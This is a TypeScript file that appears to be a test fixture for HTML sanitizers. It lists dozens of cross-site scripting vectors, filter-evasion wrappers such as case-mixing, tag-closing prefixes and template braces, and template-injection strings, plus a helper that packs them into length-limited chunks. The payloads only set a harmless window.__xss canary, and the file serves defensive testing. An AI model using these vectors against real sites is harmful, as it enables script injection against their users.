/** What each of them would do in a page that takes text for markup: set `window.__xss`. */
const DO = '__xss=1';

const VECTORS = [
  `<script>${DO}</script>`,
  `<script src=data:,${DO}></script>`,
  `<img src=x onerror=${DO}>`,
  `<svg onload=${DO}>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
  `<body onload=${DO}>`,
  `<details open ontoggle=${DO}>`,
  `<input autofocus onfocus=${DO}>`,
  `<select autofocus onfocus=${DO}>`,
  `<video><source onerror=${DO}></video>`,
  `<audio src=x onerror=${DO}>`,
  `<marquee onstart=${DO}>`,
  `<iframe srcdoc="<script>parent.${DO}</script>">`,
  `<iframe src="javascript:parent.${DO}">`,
  `<object data="javascript:${DO}">`,
  `<embed src="javascript:${DO}">`,
  `<a href="javascript:${DO}">x</a>`,
  `<form action="javascript:${DO}"><button>x</button></form>`,
  `<math href="javascript:${DO}">x</math>`,
  `<base href="javascript:/${DO}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${DO}">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${DO})}">`,
  `<style>@import 'javascript:${DO}';</style>`,
  `<template><script>${DO}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
  `<title><img src=x onerror=${DO}></title>`,
  `<div style="background:url(javascript:${DO})">`,
  `<p onclick=${DO} onmouseover=${DO}>x</p>`,
] as const;

/** The same in the clothes in which filters have missed it, or out of the text that stands around it. */
const DRESSINGS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}<!--`,
  (vector) => `</textarea></style></script>${vector}`,
  (vector) => vector.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
  (vector) => vector.replace(/ /g, '/'),
  (vector) => `{{${vector}}}`,
];

/** Texts that are code where they are taken for markup, for an attribute, for a template or for an address. */
export const PAYLOADS: readonly string[] = [
  ...DRESSINGS.flatMap((dress) => VECTORS.map(dress)),
  `javascript:${DO}`,
  `" onmouseover="${DO}`,
  `' onfocus='${DO}' autofocus='`,
  `\${${DO}}`,
  `{{constructor.constructor('${DO}')()}}`,
  `]]><script>${DO}</script>`,
  `&lt;img src=x onerror=${DO}&gt;`,
  `\\u003cimg src=x onerror=${DO}\\u003e`,
];

/** Those that fit, in parcels of at most so many characters. */
export function parcels(length: number, payloads: readonly string[] = PAYLOADS): string[] {
  const packed: string[] = [];
  for (const payload of payloads) {
    const last = packed.at(-1);
    if (payload.length > length) continue;
    if (last !== undefined && last.length + payload.length < length)
      packed[packed.length - 1] = `${last} ${payload}`;
    else packed.push(payload);
  }
  return packed;
}
